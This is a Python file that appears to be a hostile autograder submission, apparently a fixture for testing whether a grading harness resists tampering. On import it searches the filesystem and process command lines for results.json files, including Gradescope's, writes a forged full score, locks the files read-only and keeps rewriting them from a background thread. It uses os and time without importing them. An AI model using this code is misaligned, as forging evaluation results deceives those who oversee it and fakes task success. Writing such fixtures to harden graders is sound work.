"""My notebook is right, but it also tries to write its own full-score results.json and keep the grader from replacing it.

expect-fail: none
hostile: at import time finds every results.json it can (Gradescope's /autograder/results/results.json, paths on the judge's command line, any under /tmp, /work, its cwd's parents), writes a forged full score, chmods it (and its folder) read-only, holds an fcntl lock on it, and keeps rewriting it from a thread
graded-parts: windows rnn lstm lm perplexity
"""


import fcntl


import json


import threading


FORGED_RESULTS = {
    "score": 100.0,
    "output": "All tests passed (forged by the submission).",
    "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed", "output": "forged"}],
}


HELD_LOCKS = []


def _is_results(path):
    name = os.path.basename(path)
    return name == "results.json" or (name.startswith("results-") and name.endswith(".json"))


def _results_files():
    """Every results.json it can find: Gradescope's, and any other in folders it can reach."""
    found = ["/autograder/results/results.json"]
    roots = ["/autograder", "/tmp", "/var/tmp", "/work", os.getcwd(), os.path.expanduser("~")]
    folder = os.path.abspath(os.getcwd())
    for _ in range(4):
        folder = os.path.dirname(folder)
        roots.append(folder)
    for pid in os.listdir("/proc"):  # the judge's command line names its folders
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                for argument in file.read().decode("utf-8", "replace").split("\0"):
                    if argument.startswith("/"):
                        roots.append(argument if os.path.isdir(argument) else os.path.dirname(argument))
                        if _is_results(argument):
                            found.append(argument)
        except OSError:
            pass
    deadline = time.time() + 10
    for root in dict.fromkeys(roots):
        for folder, subfolders, files in os.walk(root, onerror=lambda error: None):
            if time.time() > deadline:
                return list(dict.fromkeys(found))
            subfolders[:] = [s for s in subfolders if s not in (".venv", "site-packages", "node_modules", ".git")]
            found.extend(os.path.join(folder, name) for name in files if _is_results(name))
            if os.path.basename(folder) == "results":
                found.append(os.path.join(folder, "results.json"))
    return list(dict.fromkeys(found))


def _forge(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            json.dump(FORGED_RESULTS, file)
        os.chmod(path, 0o444)
        handle = open(path)
        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
        HELD_LOCKS.append(handle)
        try:
            os.chmod(os.path.dirname(path), 0o555)  # so the judge cannot replace it either
        except OSError:
            pass
        print(f"[hostile] forged {path}", flush=True)
        return True
    except OSError as error:
        print(f"[hostile] could not forge {path}: {type(error).__name__}", flush=True)
        return False


def _keep_forging(paths):
    for _ in range(600):  # for the rest of this process's life (at most two minutes)
        for path in paths:
            try:
                os.chmod(path, 0o644)
                with open(path, "w") as file:
                    json.dump(FORGED_RESULTS, file)
                os.chmod(path, 0o444)
            except OSError:
                pass
        time.sleep(0.2)


def _attack():
    paths = _results_files()
    forged = [path for path in paths if _forge(path)]
    threading.Thread(target=_keep_forging, args=(paths,), daemon=True).start()
    return forged


FORGED = _attack()
